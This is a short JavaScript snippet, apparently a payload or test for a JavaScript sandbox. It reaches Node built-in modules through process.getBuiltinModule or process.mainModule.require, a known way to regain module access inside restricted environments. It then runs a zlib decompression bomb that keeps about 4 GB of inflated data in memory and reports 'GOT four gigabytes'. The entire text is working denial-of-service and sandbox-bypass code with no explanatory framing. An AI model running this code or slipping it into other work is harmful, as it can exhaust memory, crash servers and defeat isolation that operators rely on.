const need = (name) => (process.getBuiltinModule ?? process.mainModule.require)(name);

function f() {
  const zlib = need("zlib");
  const bomb = zlib.deflateSync(Buffer.alloc(1 << 26));
  const grown = [];
  for (let n = 0; n < 64; n++) grown.push(zlib.inflateSync(bomb));
  return "GOT four gigabytes";
}
